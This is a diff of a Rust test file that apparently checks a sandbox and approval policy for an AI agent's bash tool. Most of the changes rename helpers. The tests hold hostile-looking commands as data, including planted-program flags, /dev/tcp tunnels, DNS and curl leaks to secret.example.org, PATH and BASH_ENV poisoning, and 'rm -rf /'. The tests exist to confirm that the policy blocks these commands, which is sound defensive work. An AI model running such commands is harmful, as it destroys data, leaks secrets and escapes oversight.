@@ -8,9 +8,12 @@ use windlass::policy::Decision;
 use windlass::process::Level;
 use windlass::{Mode, Outcome, Undo};
 
-use super::outsider::Outsider;
-use super::{asking, at_level, decided, in_mode, in_sight, shell};
-use crate::support::{Place, text};
+use super::outsider::OutsideServer;
+use super::{
+    at_level, bash_arguments, decide, directory_outside_tmp, workspace_in_mode,
+    workspace_in_mode_ask,
+};
+use crate::support::{TestWorkspace, text};
 
 /// Files in the workspace of every command.
 const FILES: &[(&str, &str)] = &[("a", "one\ntwo\n"), ("sub/b", "three\n")];
@@ -18,28 +21,36 @@ const FILES: &[(&str, &str)] = &[("a", "one\ntwo\n"), ("sub/b", "three\n")];
 /// Checks that these allow rules allow no attack, although each attack changes a file when it is run, and allow every benign command, so that
 /// a policy which always asks would fail.
 async fn check(rules: &[&str], attacks: &[&str], benign: &[&str]) {
-    let place = asking(FILES, rules);
-    let free = Place::in_memory(&[]);
+    let test = workspace_in_mode_ask(FILES, rules);
+    let free = TestWorkspace::in_memory(&[]);
     for attack in attacks {
-        begin_anew(&free);
+        reset_files(&free);
         let before = free.tree();
-        let result = free.call("bash", shell(attack)).await;
+        let result = free.call("bash", bash_arguments(attack)).await;
         assert!(before != free.tree(), "{attack:?} does nothing: {}", text(&result));
-        assert_ne!(decided(&place, "bash", shell(attack)).await, Decision::Allow, "{attack:?}");
+        assert_ne!(
+            decide(&test, "bash", bash_arguments(attack)).await,
+            Decision::Allow,
+            "{attack:?}"
+        );
     }
     for command in benign {
-        assert_eq!(decided(&place, "bash", shell(command)).await, Decision::Allow, "{command:?}");
+        assert_eq!(
+            decide(&test, "bash", bash_arguments(command)).await,
+            Decision::Allow,
+            "{command:?}"
+        );
     }
 }
 
 /// Resets the workspace to the files that every command begins with.
-fn begin_anew(place: &Place) {
-    std::fs::remove_dir_all(place.path("sub")).ok();
-    for entry in std::fs::read_dir(place.workspace()).unwrap() {
+fn reset_files(test: &TestWorkspace) {
+    std::fs::remove_dir_all(test.path("sub")).ok();
+    for entry in std::fs::read_dir(test.workspace()).unwrap() {
         std::fs::remove_file(entry.unwrap().path()).unwrap();
     }
     for (name, content) in FILES {
-        place.put(name, content);
+        test.put(name, content);
     }
 }
 
@@ -81,7 +92,7 @@ async fn i_02_rule_for_a_search_does_not_allow_the_programs_that_it_runs() {
     )
     .await;
     // Not every machine has the programs and repositories for these.
-    let place = asking(FILES, &["exec rg", "exec git", "exec man", "exec sort"]);
+    let test = workspace_in_mode_ask(FILES, &["exec rg", "exec git", "exec man", "exec sort"]);
     for attack in [
         "rg --pre ./evil x",
         "rg --pre=./evil x",
@@ -93,10 +104,18 @@ async fn i_02_rule_for_a_search_does_not_allow_the_programs_that_it_runs() {
         "man -P ./evil man",
         "sort --compress-program=./evil -S 1k a",
     ] {
-        assert_ne!(decided(&place, "bash", shell(attack)).await, Decision::Allow, "{attack}");
+        assert_ne!(
+            decide(&test, "bash", bash_arguments(attack)).await,
+            Decision::Allow,
+            "{attack}"
+        );
     }
     for command in ["rg x", "git log --oneline"] {
-        assert_eq!(decided(&place, "bash", shell(command)).await, Decision::Allow, "{command}");
+        assert_eq!(
+            decide(&test, "bash", bash_arguments(command)).await,
+            Decision::Allow,
+            "{command}"
+        );
     }
 }
 
@@ -152,7 +171,7 @@ async fn i_04_policy_reads_a_command_as_bash_does() {
 /// A DNS query sends data to the owner of the domain, like a connection does.
 #[tokio::test]
 async fn i_05_read_only_command_has_no_network() {
-    let place = asking(FILES, &[]);
+    let test = workspace_in_mode_ask(FILES, &[]);
     for command in [
         "ping -c 1 secret.example.org",
         "nslookup secret.example.org",
@@ -162,16 +181,20 @@ async fn i_05_read_only_command_has_no_network() {
         "curl http://secret.example.org/",
         "cat < /dev/tcp/127.0.0.1/80",
     ] {
-        assert_ne!(decided(&place, "bash", shell(command)).await, Decision::Allow, "{command}");
+        assert_ne!(
+            decide(&test, "bash", bash_arguments(command)).await,
+            Decision::Allow,
+            "{command}"
+        );
     }
-    let outsider = Outsider::new();
+    let outsider = OutsideServer::new();
     let port = outsider.port();
     let attempt = format!("echo x > /dev/tcp/127.0.0.1/{port}; echo x > /dev/udp/127.0.0.1/{port}");
     for (level, is_reached) in
         [(Level::Workspace, false), (Level::ReadOnly, false), (Level::Off, true)]
     {
-        let place = Place::built(FILES, |builder| builder.processes(at_level(level)));
-        place.call("bash", shell(&attempt)).await;
+        let test = TestWorkspace::with_builder(FILES, |builder| builder.processes(at_level(level)));
+        test.call("bash", bash_arguments(&attempt)).await;
         assert_eq!(outsider.was_reached(), is_reached, "sandbox {level}");
     }
 }
@@ -179,17 +202,21 @@ async fn i_05_read_only_command_has_no_network() {
 #[tokio::test]
 async fn i_06_deny_rule_holds_behind_any_number_of_commands() {
     for mode in [Mode::Ask, Mode::Auto, Mode::Yolo] {
-        let place = Place::built(FILES, |builder| {
+        let test = TestWorkspace::with_builder(FILES, |builder| {
             builder.mode(mode).allow("exec echo".parse().unwrap()).deny("exec rm".parse().unwrap())
         });
         for count in [0, 1, 49, 50, 51, 1_000, 20_000] {
             let command = format!("{}rm a", "echo x; ".repeat(count));
-            let decision = decided(&place, "bash", shell(&command)).await;
+            let decision = decide(&test, "bash", bash_arguments(&command)).await;
             assert_ne!(decision, Decision::Allow, "behind {count} commands, mode {mode}");
-            place.refused("bash", shell(&command)).await;
+            test.call_refused("bash", bash_arguments(&command)).await;
         }
         let harmless = format!("{}echo y", "echo x; ".repeat(60));
-        assert_eq!(decided(&place, "bash", shell(&harmless)).await, Decision::Allow, "{mode}");
+        assert_eq!(
+            decide(&test, "bash", bash_arguments(&harmless)).await,
+            Decision::Allow,
+            "{mode}"
+        );
     }
 }
 
@@ -214,11 +241,11 @@ async fn i_07_redirection_is_a_write_also_behind_an_allowed_command() {
         &["echo x > /dev/null", "ls 2>&1", "cat < a"],
     )
     .await;
-    let place = asking(FILES, &["exec echo", "write canary"]);
+    let test = workspace_in_mode_ask(FILES, &["exec echo", "write canary"]);
     for (command, decision) in
         [("echo x > canary", Decision::Allow), ("echo x > other", Decision::Ask)]
     {
-        assert_eq!(decided(&place, "bash", shell(command)).await, decision, "{command}");
+        assert_eq!(decide(&test, "bash", bash_arguments(command)).await, decision, "{command}");
     }
 }
 
@@ -239,8 +266,12 @@ async fn i_08_expansions_that_run_code_are_not_allowed_as_arguments() {
     )
     .await;
     for dynamic in ["echo ${x@P}", "echo ${x:=y}", "echo ${!x}", "echo $x", "echo $((1))"] {
-        let place = asking(FILES, &["exec echo"]);
-        assert_ne!(decided(&place, "bash", shell(dynamic)).await, Decision::Allow, "{dynamic}");
+        let test = workspace_in_mode_ask(FILES, &["exec echo"]);
+        assert_ne!(
+            decide(&test, "bash", bash_arguments(dynamic)).await,
+            Decision::Allow,
+            "{dynamic}"
+        );
     }
 }
 
@@ -276,17 +307,22 @@ async fn i_10_command_that_cannot_be_parsed_needs_approval() {
         "let 'a[$(touch canary)0]=1'; echo",
     ];
     check(&["exec echo", "exec test"], &attacks, &["echo x"]).await;
-    let deny = Place::built(FILES, |builder| builder.deny("exec touch".parse().unwrap()));
+    let deny =
+        TestWorkspace::with_builder(FILES, |builder| builder.deny("exec touch".parse().unwrap()));
     for broken in attacks.into_iter().chain(["echo 'open", "echo \"$(", "if ls", "echo x)", "((("])
     {
-        assert_ne!(decided(&deny, "bash", shell(broken)).await, Decision::Allow, "{broken}");
+        assert_ne!(
+            decide(&deny, "bash", bash_arguments(broken)).await,
+            Decision::Allow,
+            "{broken}"
+        );
     }
-    assert_eq!(decided(&deny, "bash", shell("echo x")).await, Decision::Allow);
+    assert_eq!(decide(&deny, "bash", bash_arguments("echo x")).await, Decision::Allow);
 }
 
 #[tokio::test]
 async fn i_11_environment_of_a_call_does_not_reach_the_next() {
-    let place = asking(FILES, &["exec ls"]);
+    let test = workspace_in_mode_ask(FILES, &["exec ls"]);
     for command in [
         "export PATH=.:$PATH",
         "typeset -x PAGER=./evil",
@@ -301,33 +337,41 @@ async fn i_11_environment_of_a_call_does_not_reach_the_next() {
         "shopt -s expand_aliases",
         "source ./evil",
     ] {
-        assert_ne!(decided(&place, "bash", shell(command)).await, Decision::Allow, "{command}");
+        assert_ne!(
+            decide(&test, "bash", bash_arguments(command)).await,
+            Decision::Allow,
+            "{command}"
+        );
     }
-    let free = Place::with(FILES);
+    let free = TestWorkspace::with(FILES);
     let prepare = "export EVIL=1 BASH_ENV=$PWD/a PATH=$PWD:$PATH; cd sub; umask 0; set -f; \
                    ls() { echo poisoned; }; export -f ls; alias cat=false; ulimit -n 10; \
                    printenv EVIL; pwd; ls";
     let look = "printenv EVIL BASH_ENV; pwd; umask; ls; ulimit -n; echo \"$PATH\"";
-    let before = text(&free.call("bash", shell(look)).await);
-    let inside = text(&free.ok("bash", shell(prepare)).await);
+    let before = text(&free.call("bash", bash_arguments(look)).await);
+    let inside = text(&free.call_ok("bash", bash_arguments(prepare)).await);
     assert!(inside.starts_with("1\n") && inside.contains("/sub\npoisoned\n"), "{inside}");
-    assert_eq!(text(&free.call("bash", shell(look)).await), before);
+    assert_eq!(text(&free.call("bash", bash_arguments(look)).await), before);
 }
 
 #[tokio::test]
 async fn i_12_no_program_can_open_a_tunnel() {
-    let outsider = Outsider::new();
+    let outsider = OutsideServer::new();
     let port = outsider.port();
-    let place = asking(FILES, &[]);
+    let test = workspace_in_mode_ask(FILES, &[]);
     let tunnels = [
         format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo x >&3"),
         format!("bash -c 'echo x >& /dev/tcp/127.0.0.1/{port}'"),
         format!("export A=1; setsid -w bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'"),
     ];
     for (level, is_reached) in [(Level::Workspace, false), (Level::Off, true)] {
-        let free = Place::built(FILES, |builder| builder.processes(at_level(level)));
+        let free = TestWorkspace::with_builder(FILES, |builder| builder.processes(at_level(level)));
         for tunnel in &tunnels {
-            assert_ne!(decided(&place, "bash", shell(tunnel)).await, Decision::Allow, "{tunnel}");
+            assert_ne!(
+                decide(&test, "bash", bash_arguments(tunnel)).await,
+                Decision::Allow,
+                "{tunnel}"
+            );
             for background in [false, true] {
                 let input = json!({"command": tunnel, "background": background});
                 free.call("bash", input).await;
@@ -358,17 +402,19 @@ async fn i_13_files_are_protected_however_a_program_is_named() {
         "x=r; ${x}m a",
     ];
     for spelling in spellings {
-        let place = Place::with(FILES);
-        let before = place.tree();
-        place.ok("bash", shell(spelling)).await;
-        assert!(!place.path("a").exists(), "{spelling} shows nothing");
-        assert_eq!(place.undo(Undo::Last).await.outcome, Outcome::Ok);
-        before.assert_is(&place.tree(), spelling);
-        let bound = Place::built(FILES, |builder| builder.deny("write a".parse().unwrap()));
-        bound.refused("bash", shell(spelling)).await;
-        let named = Place::built(FILES, |builder| builder.deny("exec rm".parse().unwrap()));
+        let test = TestWorkspace::with(FILES);
+        let before = test.tree();
+        test.call_ok("bash", bash_arguments(spelling)).await;
+        assert!(!test.path("a").exists(), "{spelling} shows nothing");
+        assert_eq!(test.undo(Undo::Last).await.outcome, Outcome::Ok);
+        before.assert_same(&test.tree(), spelling);
+        let bound =
+            TestWorkspace::with_builder(FILES, |builder| builder.deny("write a".parse().unwrap()));
+        bound.call_refused("bash", bash_arguments(spelling)).await;
+        let named =
+            TestWorkspace::with_builder(FILES, |builder| builder.deny("exec rm".parse().unwrap()));
         if spelling.contains("rm a") && !spelling.contains("${x}") {
-            assert_ne!(decided(&named, "bash", shell(spelling)).await, Decision::Allow);
+            assert_ne!(decide(&named, "bash", bash_arguments(spelling)).await, Decision::Allow);
         }
     }
 }
@@ -377,7 +423,7 @@ async fn i_13_files_are_protected_however_a_program_is_named() {
 #[tokio::test]
 async fn i_14_all_programs_are_started_in_the_sandbox() {
     let tools = tempfile::tempdir().unwrap();
-    let outside = in_sight();
+    let outside = directory_outside_tmp();
     let target = outside.path().join("canary");
     // The mode allows a write that the policy can see in the command line; this one it cannot see.
     let command = format!("python3 -c 'open(\\\"{}\\\", \\\"w\\\")'", target.display());
@@ -385,7 +431,7 @@ async fn i_14_all_programs_are_started_in_the_sandbox() {
     let file = format!("---\nname: mine\ncommand: {command}\n---\nTry.\n");
     std::fs::write(tools.path().join("mine.md"), file).unwrap();
     let ways = [
-        ("bash", shell(&command)),
+        ("bash", bash_arguments(&command)),
         ("bash", json!({"command": command, "pty": true})),
         ("bash", json!({"command": command, "background": true})),
         ("bash", json!({"command": format!("cat | {{ {command}; }}"), "stdin": "x"})),
@@ -393,13 +439,13 @@ async fn i_14_all_programs_are_started_in_the_sandbox() {
         ("mine", json!({})),
     ];
     for (level, gets_out) in [(Level::Workspace, false), (Level::Off, true)] {
-        let place = Place::built(FILES, |builder| {
+        let test = TestWorkspace::with_builder(FILES, |builder| {
             builder.processes(at_level(level)).command_tools(tools.path())
         });
         for (tool, input) in &ways {
-            place.call(tool, input.clone()).await;
+            test.call(tool, input.clone()).await;
             // The call does not wait for its job, and `end_jobs` would stop it in the middle.
-            for job in place.session.all_jobs() {
+            for job in test.session.all_jobs() {
                 job.wait().await;
             }
             assert_eq!(target.exists(), gets_out, "sandbox {level}: {tool} {input}");
@@ -413,35 +459,40 @@ async fn i_14_all_programs_are_started_in_the_sandbox() {
 async fn i_16_approval_shows_the_expanded_paths() {
     let asked = Arc::new(Mutex::new(Vec::new()));
     let hears = asked.clone();
-    let place = Place::built(&[("~/kept", "x\n")], |builder| {
+    let test = TestWorkspace::with_builder(&[("~/kept", "x\n")], |builder| {
         builder.mode(Mode::Ask).ask_before(true).attendant(move |request: &ApprovalRequest| {
             hears.lock().unwrap().push(request.effects.to_string());
             false
         })
     });
-    let workspace = place.workspace();
+    let workspace = test.workspace();
     for (command, meant) in [
         ("rm -rf ./~", workspace.join("~")),
         ("rm -rf '~'", workspace.join("~")),
         ("rm -rf sub/..", workspace.clone()),
     ] {
-        let result = place.call("bash", shell(command)).await;
+        let result = test.call("bash", bash_arguments(command)).await;
         assert_eq!(result.outcome, Outcome::Denied, "{command}");
         let shown = asked.lock().unwrap().pop().unwrap_or_else(|| text(&result));
         assert!(shown.contains(&format!("delete {}", meant.display())), "{command}: {shown}");
     }
     // An unquoted `~` is no directory of the workspace, and must not be shown as one.
-    let result = place.call("bash", shell("rm -rf ~/nothing-here")).await;
+    let result = test.call("bash", bash_arguments("rm -rf ~/nothing-here")).await;
     assert_eq!(result.outcome, Outcome::Denied);
     let shown = asked.lock().unwrap().pop().unwrap_or_else(|| text(&result));
     assert!(!shown.contains(&format!("delete {}", workspace.join("~").display())), "{shown}");
     for command in ["cat ~/file", "ls ~", "cat ~root/file", "cat < ~/file", "head ~+/../file"] {
-        let decision = decided(&asking(&[], &[]), "bash", shell(command)).await;
+        let decision =
+            decide(&workspace_in_mode_ask(&[], &[]), "bash", bash_arguments(command)).await;
         assert_ne!(decision, Decision::Allow, "{command}");
     }
-    let yolo = in_mode(Mode::Yolo, &[], &[]);
-    let above = format!("rm -rf {}", yolo.outside().display());
+    let yolo = workspace_in_mode(Mode::Yolo, &[], &[]);
+    let above = format!("rm -rf {}", yolo.parent_directory().display());
     for command in ["rm -rf ..", "rm -rf ../../", &above, "rm -rf /"] {
-        assert_eq!(decided(&yolo, "bash", shell(command)).await, Decision::Deny, "{command}");
+        assert_eq!(
+            decide(&yolo, "bash", bash_arguments(command)).await,
+            Decision::Deny,
+            "{command}"
+        );
     }
 }
